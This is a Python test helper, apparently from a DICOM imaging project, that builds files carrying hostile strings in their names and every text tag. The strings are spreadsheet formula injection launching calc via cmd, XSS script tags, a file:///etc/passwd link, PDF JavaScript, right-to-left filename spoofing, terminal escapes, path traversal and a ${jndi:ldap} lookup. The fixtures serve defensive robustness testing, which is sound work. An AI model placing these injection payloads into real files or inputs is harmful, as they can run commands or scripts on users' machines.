"""Texts that try to act, and files that carry them everywhere a file can carry text."""

from __future__ import annotations

import random
import warnings
from pathlib import Path

from pydicom.datadict import tag_for_keyword

from tests.fakes.dicom_maker import dataset_of
from tests.reliability.specimens import smooth

TEXTS = {
    "formula": '=HYPERLINK("http://example.org/"&A1,"x")',
    "formula after blank": " =1+1",
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+1",
    "markup": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "rich text": "<a href='file:///etc/passwd'>here</a><b>bold</b>",
    "entities": "&lt;b&gt;&#x202e;&amp;<!--",
    "page markup": "</para><font size=99>x</font><br/>",
    "pdf": ") Tj ET /JS (app.alert(1)) /S /JavaScript",
    "right to left": "invoice\u202egnp.exe\u2066\u2069",
    "controls": "a\x1b[2J\x1b]0;owned\x07b\x08\x7f\x9b31m",
    "newlines": "a\r\nb\nc\u2028d\u2029e\x0b\x0cf",
    "traversal": "../../../../tmp/evil",
    "windows traversal": "..\\..\\C:\\evil:stream",
    "template": "{0.__class__}%s%n${jndi:ldap://x}{{7*7}}",
    "quotes": '"\',;\t""',
    "lone marks": "\u0301\ufe0f\u200d\ufeff\U000e0041",
    "64 KB": "A" * 65_536,
}

_TEXT_TAGS = {
    "PatientName": "PN",
    "PatientID": "LO",
    "AccessionNumber": "SH",
    "InstitutionName": "LO",
    "StudyDescription": "LO",
    "ImageComments": "LT",
    "PatientBirthDate": "DA",
    "StudyDate": "DA",
    "PatientSex": "CS",
    "Modality": "CS",
    "ViewPosition": "CS",
    "ImageLaterality": "CS",
    "WindowCenterWidthExplanation": "LO",
    "SOPInstanceUID": "UI",
    "StudyInstanceUID": "UI",
    "SeriesInstanceUID": "UI",
}


def hostile_file(folder: Path, text: str) -> Path:
    """Write a DICOM file with the text in its name and in every tag that holds text."""
    dataset = dataset_of(smooth(12), BitsStored=12, WindowCenter=2048, WindowWidth=4096)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dataset.SpecificCharacterSet = "ISO_IR 192"
        for keyword in _TEXT_TAGS:
            tag = tag_for_keyword(keyword)
            assert tag is not None
            # Written as free text, which pydicom takes whole; it is read by what is announced.
            dataset.add_new(tag, "UT" if len(text) > 1000 else "LT", text)
        path = folder / _as_name(text)
        # The file's own identifiers stay as they are, or no reader would get as far as the text.
        dataset.preamble = bytes(128)
        dataset.save_as(path, enforce_file_format=False)
    return path


def _as_name(text: str) -> str:
    kept = text.replace("/", "\u2215").replace("\x00", "")[:60]
    return f"{kept}.dcm"


def mixed(chance: random.Random) -> str:
    """Return pieces of several texts, put together by chance."""
    pieces = [text[:200] for text in TEXTS.values()]
    return "".join(chance.sample(pieces, 3))[: chance.randrange(1, 300)]
